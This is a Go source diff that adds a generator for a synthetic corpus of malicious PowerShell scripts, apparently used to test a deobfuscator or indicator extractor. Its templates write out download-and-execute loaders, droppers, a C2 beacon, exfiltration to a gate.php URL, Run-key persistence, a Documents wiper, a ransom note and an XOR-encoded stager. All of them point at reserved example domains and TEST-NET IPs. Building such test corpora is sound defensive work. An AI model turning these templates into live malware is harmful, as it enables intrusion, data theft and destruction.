@@ -1,0 +1,150 @@
+package corpus
+
+import (
+	"encoding/base64"
+	"fmt"
+	"math/rand"
+	"strconv"
+	"strings"
+)
+
+// Indicator pools. TEST-NET ranges and reserved example domains keep the
+// corpus inert while remaining realistic for extraction.
+var (
+	domainWords = []string{
+		"cdn", "update", "static", "img", "files", "api", "dl", "mirror",
+		"cloud", "secure", "portal", "assets", "media", "sync",
+	}
+	tlds      = []string{"example", "test", "invalid"}
+	fileWords = []string{
+		"payload", "update", "svchost", "report", "invoice", "setup",
+		"installer", "patch", "module", "loader", "stage2", "config",
+	}
+)
+
+func randomHost(rng *rand.Rand) string {
+	return fmt.Sprintf("%s%d.%s%d.%s",
+		domainWords[rng.Intn(len(domainWords))], rng.Intn(90)+10,
+		domainWords[rng.Intn(len(domainWords))], rng.Intn(9)+1,
+		tlds[rng.Intn(len(tlds))])
+}
+
+func randomIP(rng *rand.Rand) string {
+	// TEST-NET-2 and TEST-NET-3.
+	if rng.Intn(2) == 0 {
+		return fmt.Sprintf("198.51.100.%d", rng.Intn(253)+1)
+	}
+	return fmt.Sprintf("203.0.113.%d", rng.Intn(253)+1)
+}
+
+func randomPs1(rng *rand.Rand) string {
+	return fmt.Sprintf("%s%d.ps1", fileWords[rng.Intn(len(fileWords))], rng.Intn(900)+100)
+}
+
+func randomExe(rng *rand.Rand) string {
+	return fmt.Sprintf("%s%d.exe", fileWords[rng.Intn(len(fileWords))], rng.Intn(900)+100)
+}
+
+// buildScript renders a clean script of the given family with unique
+// indicators.
+func buildScript(rng *rand.Rand, family Family, idx int) string {
+	host := randomHost(rng)
+	ip := randomIP(rng)
+	ps1 := randomPs1(rng)
+	exe := randomExe(rng)
+	port := []int{80, 443, 8080, 4444, 8443}[rng.Intn(5)]
+	switch family {
+	case FamilyDownloader:
+		if rng.Intn(2) == 0 {
+			// The paper's running pattern: the indicator is assembled
+			// from variable halves, so only variable tracing exposes it.
+			full := fmt.Sprintf("http://%s/%s", host, ps1)
+			cut := len(full)/2 + rng.Intn(5)
+			return strings.Join([]string{
+				fmt.Sprintf("$head = '%s'", full[:cut]),
+				fmt.Sprintf("$tail = '%s'", full[cut:]),
+				"$url = $head + $tail",
+				"$client = New-Object Net.WebClient",
+				"$script = $client.downloadstring($url)",
+				"Invoke-Expression $script",
+			}, "\n")
+		}
+		return strings.Join([]string{
+			fmt.Sprintf("$url = 'http://%s/%s'", host, ps1),
+			"$client = New-Object Net.WebClient",
+			"$script = $client.downloadstring($url)",
+			"Invoke-Expression $script",
+		}, "\n")
+	case FamilyDropper:
+		return strings.Join([]string{
+			fmt.Sprintf("$src = 'https://%s/drop/%s'", host, exe),
+			fmt.Sprintf("$dst = \"$env:TEMP\\%s\"", exe),
+			"(New-Object Net.WebClient).DownloadFile($src, $dst)",
+			"Start-Process $dst",
+		}, "\n")
+	case FamilyBeacon:
+		return strings.Join([]string{
+			fmt.Sprintf("$c2 = '%s'", ip),
+			fmt.Sprintf("$client = New-Object Net.Sockets.TcpClient($c2, %d)", port),
+			"$stream = $client.GetStream()",
+			"$client.Close()",
+		}, "\n")
+	case FamilyRecon:
+		return strings.Join([]string{
+			"$info = \"$env:COMPUTERNAME/$env:USERNAME\"",
+			fmt.Sprintf("$exfil = 'http://%s/gate.php'", host),
+			"(New-Object Net.WebClient).UploadString($exfil, $info)",
+		}, "\n")
+	case FamilyPersistence:
+		return strings.Join([]string{
+			fmt.Sprintf("$task = \"powershell -w hidden -File $env:APPDATA\\%s\"", ps1),
+			"New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'Updater' -Value $task",
+		}, "\n")
+	case FamilyWiper:
+		return strings.Join([]string{
+			"$targets = Get-ChildItem \"$env:USERPROFILE\\Documents\" -Recurse",
+			"foreach ($t in $targets) { Remove-Item $t -Force }",
+			"Write-Host 'cleanup complete'",
+		}, "\n")
+	case FamilyRansomNote:
+		return strings.Join([]string{
+			fmt.Sprintf("$note = 'Your files are encrypted. Visit http://%s/pay to recover.'", host),
+			"$note | Out-File \"$env:USERPROFILE\\Desktop\\README.txt\"",
+			"Write-Host $note",
+		}, "\n")
+	case FamilyStagedLoader:
+		// The decoder lives in a function; recovering the payload would
+		// require tracing through the call (paper §V-C).
+		key := rng.Intn(120) + 5
+		payload := fmt.Sprintf("(New-Object Net.WebClient).downloadstring('http://%s/%s') | Invoke-Expression", host, ps1)
+		codes := make([]string, 0, len(payload))
+		for _, r := range payload {
+			codes = append(codes, strconv.Itoa(int(r)^key))
+		}
+		return strings.Join([]string{
+			fmt.Sprintf("function decode($s) { -join ($s -split ',' | ForEach-Object { [char]([int]$_ -bxor %d) }) }", key),
+			fmt.Sprintf("$stage = decode('%s')", strings.Join(codes, ",")),
+			"Invoke-Expression $stage",
+		}, "\n")
+	case FamilyBinaryDropper:
+		// The Base64 blob is a binary PE stub, not encoded text; a
+		// correct deobfuscator leaves it alone (paper §IV-C4).
+		blob := make([]byte, 96+rng.Intn(64))
+		blob[0], blob[1] = 'M', 'Z'
+		for i := 2; i < len(blob); i++ {
+			blob[i] = byte(rng.Intn(256))
+		}
+		return strings.Join([]string{
+			fmt.Sprintf("$blob = '%s'", base64.StdEncoding.EncodeToString(blob)),
+			"$bytes = [Convert]::FromBase64String($blob)",
+			fmt.Sprintf("[IO.File]::WriteAllBytes(\"$env:TEMP\\%s\", $bytes)", exe),
+			fmt.Sprintf("Start-Process \"$env:TEMP\\%s\"", exe),
+		}, "\n")
+	default: // FamilyLoader
+		return strings.Join([]string{
+			fmt.Sprintf("$stager = 'http://%s:%d/%s'", ip, port, ps1),
+			"$code = (New-Object Net.WebClient).downloadstring($stager)",
+			fmt.Sprintf("powershell -nop -w hidden -Command $code # loader %d", idx),
+		}, "\n")
+	}
+}
